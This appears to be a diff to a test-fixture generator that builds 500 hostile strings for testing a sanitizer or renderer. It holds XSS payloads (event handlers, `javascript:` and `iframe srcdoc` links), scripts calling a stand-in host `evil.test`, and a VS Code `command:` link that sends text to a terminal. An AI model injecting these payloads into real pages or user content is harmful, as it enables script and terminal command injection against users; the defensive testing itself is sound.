@@ -84,3 +84,23 @@ export function hostileTexts(): readonly string[] {
   for (const direction of directions) for (const html of markup) texts.add(`${direction}${html}`);
   return [...texts];
 }
+
+const scripts = ['alert(1)', 'fetch("https://evil.test")', 'window.open("https://evil.test")', 'print()', 'navigator.clipboard.writeText("x")'];
+const quotes = ['', '"', "'", '`', '">', "'>", '</p>', '</script>', '-->', ']]>'];
+const makers: readonly ((script: string) => string)[] = [
+  (script) => `<img src=x onerror='${script}'>`,
+  (script) => `<svg onload='${script}'>`,
+  (script) => `<script>${script}</script>`,
+  (script) => `<a href='javascript:${script}'>x</a>`,
+  (script) => `<iframe srcdoc='<script>${script}</script>'></iframe>`,
+  (script) => `<details open ontoggle='${script}'>x</details>`,
+  (script) => `<math><mi xlink:href='javascript:${script}'>x</mi></math>`,
+  (script) => `<form action='javascript:${script}'><button autofocus onfocus='${script}'>x</button></form>`,
+  (script) => `[x](javascript:${script.replaceAll(/[()"]/g, '')})`,
+  (script) => `[x](command:workbench.action.terminal.sendSequence?${encodeURIComponent(script)})`,
+];
+
+/** Five hundred texts that try to become markup, a script or a link. Each is different. */
+export function scriptTexts(): readonly string[] {
+  return quotes.flatMap((quote) => makers.flatMap((make) => scripts.map((script) => `${quote}${make(script)}`)));
+}
